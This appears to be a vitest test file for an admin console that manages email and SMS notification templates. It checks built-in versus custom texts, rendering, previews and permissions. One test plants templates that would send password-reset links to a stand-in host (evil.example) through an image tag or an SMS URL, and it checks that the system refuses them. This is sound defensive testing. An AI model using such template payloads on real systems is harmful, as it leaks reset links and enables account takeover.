import { previewTemplate } from '@gatehouse/contract/admin/templates/preview.ts'
import { emailTemplates, smsTemplates } from '@gatehouse/contract/admin/templates/templates.ts'
import { listTextsInUse, readTextInUse } from '@gatehouse/contract/admin/templates/texts-in-use.ts'
import { goesBy, MESSAGE_LANGUAGES, NOTICE_NAMES } from '@gatehouse/contract/notices.ts'
import sql from 'sql-template-tag'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { aClient, anApplication, aPerson } from '../../../test/builders.ts'
import { someoneWith, useAdministrator } from '../../../test/console.ts'
import { useTestServer } from '../../../test/server.ts'
import { newId } from '../../crypto/ids.ts'
import { notify } from '../../notifications/notify.ts'
import { sampleValues } from '../../notifications/sample-values.ts'
import { samplesOf } from '../../notifications/values.ts'

const server = useTestServer({ config: { brand: 'Acme & Sons' } })
const admin = useAdministrator(server)
beforeEach(async () => {
  // Examples hold the time of now: two of them are compared to the letter.
  vi.useFakeTimers({ toFake: ['Date'], now: Date.now() })
  await server.db.execute(sql`delete from templates`)
})
afterEach(() => {
  vi.useRealTimers()
})

const FORM = { Application: 'All', Client: 'All', TemplateId: 'T', Status: 'ACTIVE' }
const anEmail = (changes: object) =>
  admin.call(emailTemplates.create, { ...FORM, TemplateName: 'x', Subject: 'Own', Template: '<p>Own</p>', ...changes })
const texts = async (query: object) => (await admin.call(listTextsInUse, { channel: 'email', ...query })).data
const read = async (query: object) => {
  const answer = await admin.call(readTextInUse, { channel: 'email', language: 'en', notice: 'new-device', ...query })
  expect(answer.status).toBe(200)
  return answer.data
}

describe('the text in use for a message', () => {
  test('is the built-in one in each language until a template replaces it', async () => {
    const all = await texts({})
    const mails = NOTICE_NAMES.filter((notice) => goesBy('email', notice))
    expect(all).toEqual(
      mails.flatMap((notice) =>
        MESSAGE_LANGUAGES.map((language) => ({ notice, language, template: null, hasBuiltIn: true })),
      ),
    )
    const bySms = await texts({ channel: 'sms' })
    const written = bySms.filter(({ hasBuiltIn }) => hasBuiltIn).map(({ notice }) => notice)
    const built = ['login-otp', 'verify-phone', 'own-phone-changed', 'contact-undone', 'recovery-started']
    expect(new Set(written)).toEqual(new Set(built))
  })

  test('depends on the application, the client and the language', async () => {
    const application = await anApplication(server)
    const client = await aClient(server)
    const { data: row } = await anEmail({ TemplateName: 'New-Device', Application: application.id, Language: 'hi' })
    await anEmail({ TemplateName: 'role-changed', Status: 'INACTIVE', Template: '<p>{{ role }}</p>' })
    const owns = async (query: object) => (await texts(query)).filter(({ template }) => template !== null)
    expect(await owns({})).toEqual([])
    const inUse = { _id: row._id, application: application.name, client: null, language: 'hi' }
    const own = [{ notice: 'new-device', language: 'hi', template: inUse, hasBuiltIn: true }]
    expect(await owns({ applicationId: application.id })).toEqual(own)
    expect(await owns({ applicationId: application.id, clientId: client.id })).toEqual(own)
    expect(await owns({ clientId: client.id })).toEqual([])
  })
})

describe('a text', () => {
  test.each(MESSAGE_LANGUAGES)('is shown byte for byte as it is sent: built in, in %s', async (language) => {
    const application = await anApplication(server)
    const client = await aClient(server)
    const scope = { applicationId: application.id, clientId: client.id }
    for (const notice of ['assignment-granted', 'reset-password', 'login-otp'] as const) {
      const { builtIn, inUse } = await read({ notice, language, ...scope })
      expect(inUse).toEqual({ template: null, rendered: builtIn?.rendered, remark: '' })
      const { id, email } = await aPerson(server)
      await server.db.execute(sql`update users set language = ${language} where id = ${id}`)
      const values = await sampleValues(server, { name: notice, scope, language })
      await server.db.transaction((tx) => notify(server, tx, notice, id, { scope, values }))
      const [mail] = await server.inbox(email)
      const { subject, text, html } = builtIn?.rendered ?? {}
      // The link that locks the account is made when the message is sent, in place of its sample.
      const asSample = (part?: string) =>
        part?.replaceAll(/https?:\/\/[\w.:]+\/lockaccount\/[\w-]+/g, String(samplesOf(notice).lockLink))
      expect({ ...mail, text: asSample(mail?.text), html: asSample(mail?.html) }).toMatchObject({ subject, text, html })
      if (notice === 'assignment-granted') expect(subject).toContain(application.name)
      expect(html).toContain('Acme &amp; Sons')
    }
    const changed = { en: 'phone number', hi: 'फ़ोन नंबर' }
    const { builtIn } = await read({ notice: 'details-changed', language })
    expect(builtIn?.rendered?.text).toContain(`: ${changed[language]}`)
  })

  test('of a template is shown as it is sent, and as its preview showed it', async () => {
    const application = await anApplication(server)
    const applicationId = application.id
    const Template = '<p>Dear {{ firstName }}, {{ applicationName }} of <a href="{{ portal }}">{{ brand }}</a></p>'
    const Subject = '{{ applicationName }} for {{ clientName }}'
    await anEmail({ TemplateName: 'assignment-granted', Application: applicationId, Subject, Template })
    const { inUse } = await read({ notice: 'assignment-granted', applicationId })
    const written = { channel: 'email', name: 'assignment-granted', subject: Subject, body: Template } as const
    const { data: preview } = await admin.call(previewTemplate, { ...written, applicationId })
    expect(preview.rendered).toEqual(inUse?.rendered)
    const { id, email } = await aPerson(server)
    const scope = { applicationId, clientId: null }
    const values = await sampleValues(server, { name: 'assignment-granted', scope, language: 'en' })
    await server.db.transaction((tx) => notify(server, tx, 'assignment-granted', id, { scope, values }))
    const [mail] = await server.inbox(email)
    expect(mail).toMatchObject({ ...inUse?.rendered })
    expect(mail?.html).toContain(`${application.name} of <a href="http://localhost:3000">Acme &amp; Sons</a>`)
  })

  test('that is built in can be saved as a template without a difference', async () => {
    for (const notice of NOTICE_NAMES)
      for (const channel of ['email', 'sms'] as const)
        for (const language of MESSAGE_LANGUAGES) {
          const { builtIn } = await read({ channel, notice, language })
          if (builtIn === null) continue
          const form = { ...FORM, TemplateName: notice, Language: language, Template: builtIn.body }
          const saved =
            channel === 'sms'
              ? await admin.call(smsTemplates.create, form)
              : await admin.call(emailTemplates.create, { ...form, Subject: builtIn.subject })
          expect(saved, `${notice} ${channel} ${language}`).toMatchObject({ status: 200 })
          const { inUse } = await read({ channel, notice, language })
          expect(inUse?.template?._id).toBe(saved.data._id)
          const { subject, html } = inUse?.rendered ?? {}
          expect({ subject, html }).toEqual({ subject: builtIn.rendered.subject, html: builtIn.rendered.html })
        }
  })

  test('comes with the reason why a template is not used, or why nothing can be sent', async () => {
    const store = (channel: string, name: string, body: string) =>
      server.db.execute(sql`
        insert into templates (id, channel, template_id, name, subject, body)
        values (${newId()}, ${channel}, 'T', ${name}, 'Old', ${body})`)
    await store('email', 'reset-password', '<img src="https://evil.example/?c={{ link }}">')
    const { inUse, builtIn } = await read({ notice: 'reset-password' })
    expect(inUse).toMatchObject({ template: null, rendered: builtIn?.rendered })
    expect(inUse?.remark).toContain('The template could not be used: {{ link }} cannot be used in an attribute')
    await store('sms', 'reset-password', 'https://evil.example/?c={{ link }}')
    const sms = await read({ channel: 'sms', notice: 'reset-password' })
    expect(sms).toMatchObject({ inUse: { template: null, rendered: null }, builtIn: null })
    expect(sms.inUse?.remark).toContain('The template could not be used: ')
    expect(await read({ channel: 'sms' })).toEqual({ inUse: null, builtIn: null })
  })

  test('needs the permission to see templates', async () => {
    const { visitor } = await someoneWith(server, ['messages:read'])
    expect(await visitor.call(listTextsInUse, { channel: 'email' })).toMatchObject({ status: 200 })
    const { visitor: other } = await someoneWith(server, ['users:write'])
    expect(await other.call(listTextsInUse, { channel: 'email' })).toMatchObject({ status: 403 })
  })
})

test('the sample of a link does not turn an SMS into Unicode', async () => {
  const body = 'Open {{ link }} within {{ minutes }} minutes.'
  const { data } = await admin.call(previewTemplate, { channel: 'sms', name: 'reset-password', body })
  expect(data.sms).toMatchObject({ isUnicode: false, parts: 1 })
  expect(data.rendered?.text).toMatch(
    /^Open http:\/\/localhost:3000\/resetpassword\/[0-9a-f-]{36} within 30 minutes\.$/,
  )
})
